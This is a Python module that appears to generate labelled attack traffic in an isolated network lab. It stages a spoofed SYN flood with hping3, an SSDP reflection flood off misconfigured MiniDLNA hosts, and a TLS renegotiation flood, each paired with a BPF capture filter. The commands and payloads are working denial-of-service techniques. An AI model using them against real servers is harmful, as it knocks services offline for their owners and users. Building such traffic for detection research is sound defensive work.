"""Three attacks on the server of a session, bounded in packets, and the benign visits that go on meanwhile.

Every attack has a BPF filter that matches its packets and none of the benign clients': one capture takes what matches,
a second one takes the rest.
"""

import contextlib
import dataclasses
import random
import subprocess
import time
from collections.abc import Callable

import dialogues
import web
from lab import Host, Lab, command
from pace import think
from scenarios import Visit

BENIGN: tuple[Visit, ...] = (web.browse_pages, dialogues.look_up, dialogues.type_in_ssh, web.browse_pages)
"""Activities of the benign clients, one each."""

STUNNEL = """
foreground = yes
pid =
syslog = no
debug = 3
[https]
accept = 0.0.0.0:443
connect = 127.0.0.1:8080
cert = {keys}/server.crt
key = {keys}/server.key
sslVersionMax = TLSv1.2
renegotiation = yes
"""
OPENSSL = """
openssl_conf = all
[all]
ssl_conf = ssl
[ssl]
system_default = defaults
[defaults]
Options = ClientRenegotiation
"""


def serve_all(lab: Lab) -> None:
    """Starts what benign clients use: nginx behind stunnel (TLS 1.2, renegotiation allowed), dnsmasq and OpenSSH."""
    home = lab.server.home
    dialogues.serve_dns(lab)
    dialogues.serve_ssh(lab)
    web.serve_nginx(lab, "127.0.0.1:8080")
    (home / "stunnel.conf").write_text(STUNNEL.format(keys=lab.shared / "keys"))
    (home / "openssl.cnf").write_text(OPENSSL)
    lab.server.start(["env", f"OPENSSL_CONF={home}/openssl.cnf", "stunnel4", str(home / "stunnel.conf")])
    lab.server.wait_for_port(443)


@dataclasses.dataclass(frozen=True)
class Attack:
    """An attack that is ready: the filter that tells its packets, and what starts it."""

    bpf: str
    run: Callable[[], None]


def syn_flood(lab: Lab, draws: random.Random) -> Attack:
    """SYNs with hping3 from random ports of many forged addresses; the forged hosts either reset or stay silent."""
    attacker = lab.add_host("attacker", "clients")
    net = f"10.{draws.randrange(1, 255)}.{draws.randrange(255)}"
    attacker.ip("route", "add", "local", f"{net}.0/24", "dev", "lo")
    if draws.random() < 0.5:
        silent = ["OUTPUT", "-p", "tcp", "--tcp-flags", "RST", "RST", "-j", "DROP"]
        command(["ip", "netns", "exec", attacker.namespace, "iptables", "-A", *silent])
    port = draws.choice(["443", "443", "22"])

    def run() -> None:
        for _ in range(16):
            forged = f"{net}.{draws.randrange(2, 250)}"
            keep = ["-k"] if draws.random() < 0.15 else []
            ttl = str(draws.choice([64, 64, 128]) - draws.randrange(1, 20))
            attacker.run(["hping3", "-q", "-S", "-I", "eth0", "-a", forged, "-s", str(draws.randrange(1025, 60000)),
                          *keep, "-t", ttl, "-p", port, "-w", str(draws.choice([512, 1024, 64240])),
                          "-c", str(draws.randrange(5, 11)), "-i", f"u{draws.randrange(2, 40) * 1000}",
                          lab.server.address], 10)  # fmt: skip
            think(draws, 0.15)

    return Attack(f"net {net}.0/24", run)


SEARCH = 'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n'
MINIDLNA = """
port={port}
network_interface=eth0
friendly_name={name}
media_dir={home}
db_dir={home}
log_dir={home}
inotify=no
notify_interval=900
"""


def ssdp_flood(lab: Lab, draws: random.Random) -> Attack:
    """Multicast searches in the server's name; media servers (MiniDLNA) answer to random ports of the server."""
    attacker = lab.add_host("attacker", "clients")
    # MiniDLNA answers its own network alone; prefix 0 makes it as careless as the devices that real floods use
    reflectors = [lab.add_host(f"reflector{number}", "clients", prefix=0) for number in range(5)]
    attacker.ip("route", "add", "239.0.0.0/8", "dev", "eth0")
    for host in reflectors:
        settings = host.home / "minidlna.conf"
        settings.write_text(MINIDLNA.format(port=draws.randrange(8000, 9000), name=host.name, home=host.home))
        host.ip("route", "add", "239.0.0.0/8", "dev", "eth0")
        host.start(["minidlnad", "-S", "-f", str(settings), "-P", str(host.home / "pid")])
    for host in reflectors:
        host.wait_for_port(1900, "udp")
    search = attacker.home / "search"
    search.write_text(SEARCH, newline="")

    def run() -> None:
        for _ in range(draws.randrange(12, 19)):
            attacker.run(["hping3", "-q", "-2", "-I", "eth0", "-a", lab.server.address, "-k",
                          "-s", str(draws.randrange(1025, 60000)), "-p", "1900", "-E", str(search),
                          "-d", str(len(SEARCH)), "-c", "1", "-i", "u1000", "239.255.255.250"], 10)  # fmt: skip
            think(draws, 0.3)
        time.sleep(3)

    return Attack(f"udp src port 1900 and dst host {lab.server.address}", run)


def tls_renegotiation(lab: Lab, draws: random.Random) -> Attack:
    """TLS 1.2 connections of OpenSSL's s_client that ask for one handshake after the other and carry nothing."""
    attackers = [lab.add_host(f"attacker{number}", "clients") for number in range(2)]

    def one(host: Host) -> "subprocess.Popen[bytes]":
        at = f"{lab.server.address}:443"
        return host.start(["openssl", "s_client", "-quiet", "-no_ign_eof", "-tls1_2", "-connect", at],
                          stdin=subprocess.PIPE)  # fmt: skip

    def run() -> None:
        for _ in range(7):
            connections = [one(draws.choice(attackers)) for _ in range(4)]
            time.sleep(0.5)
            for _ in range(draws.randrange(2, 9)):
                for connection in connections:
                    assert connection.stdin
                    with contextlib.suppress(BrokenPipeError):
                        connection.stdin.write(b"R\n")
                        connection.stdin.flush()
                time.sleep(draws.uniform(0.03, 0.2))
            for connection in connections:
                with contextlib.suppress(BrokenPipeError):
                    connection.communicate(timeout=5)

    return Attack(" or ".join(f"host {host.address}" for host in attackers), run)


ATTACKS: dict[str, Callable[[Lab, random.Random], Attack]] = {
    "syn_flood": syn_flood,
    "ssdp_flood": ssdp_flood,
    "tls_renegotiation": tls_renegotiation,
}
